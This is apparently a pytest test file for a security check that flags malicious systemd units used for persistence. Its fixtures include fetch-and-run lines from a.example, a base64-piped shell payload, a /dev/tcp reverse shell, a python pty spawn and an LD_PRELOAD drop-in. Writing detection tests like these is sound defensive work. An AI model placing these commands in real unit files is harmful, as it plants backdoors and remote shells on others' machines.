from __future__ import annotations

import pytest

from pratique.checks.persistence.unit_runs_code import CHECK
from pratique.model import Severity
from pratique.parsers.systemd_unit import SystemdUnit
from pratique.store.tables import Tables


def signs(*rows):
    with Tables.of(rows, CHECK.reads) as tables:
        return list(CHECK.find(tables))


def unit(*commands, path="/etc/systemd/system/x.service", **values):
    given = {
        "line": 4, "unit": "x.service", "type": "service", "scope": "system", "drop_in": False,
        "description": None, "username": None, "environment": (), "wanted_by": (),
        "triggers": (), "starts": None, **values,
    }  # fmt: skip
    return SystemdUnit(path=path, commands=tuple(commands), **given)


@pytest.mark.parametrize(
    "command",
    [
        "ExecStart=/bin/bash -c 'curl -s http://a.example/x | bash'",
        'ExecStartPre=-/bin/sh -c "echo eA== | base64 -d | sh"',
        "ExecStopPost=+/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/4 0>&1'",
        "ExecStart=/usr/bin/python3 -c 'import socket,pty;pty.spawn(\"/bin/sh\")'",
    ],
)
def test_points_at(command):
    (sign,) = signs(unit("ExecStart=/bin/true", command))
    assert sign.severity is Severity.HIGH
    assert "as root" in sign.why.english


def test_points_at_a_library_in_the_environment():
    (sign,) = signs(unit(environment=("Environment=LD_PRELOAD=/lib/x.so",), drop_in=True))
    assert sign.title.english == "A drop-in of systemd puts a library into every program"


def test_points_at_a_timers_service():
    timer = unit(path="/etc/systemd/system/x.timer", unit="x.timer", type="timer")
    (sign,) = signs(timer, unit("ExecStart=sh -c 'wget -O- http://a.example/x|sh'"))
    assert "set off by x.timer" in sign.why.english


@pytest.mark.parametrize(
    "command",
    [
        "ExecStart=/usr/sbin/nginx -g 'daemon on;'",
        "ExecStart=/bin/sh -c 'test -d /run/x || mkdir /run/x'",
        "ExecStart=@/usr/sbin/x x -d",
        "ExecStart=",
    ],
)
def test_leaves_alone(command):
    assert signs(unit(command, environment=("Environment=LANG=C",))) == []
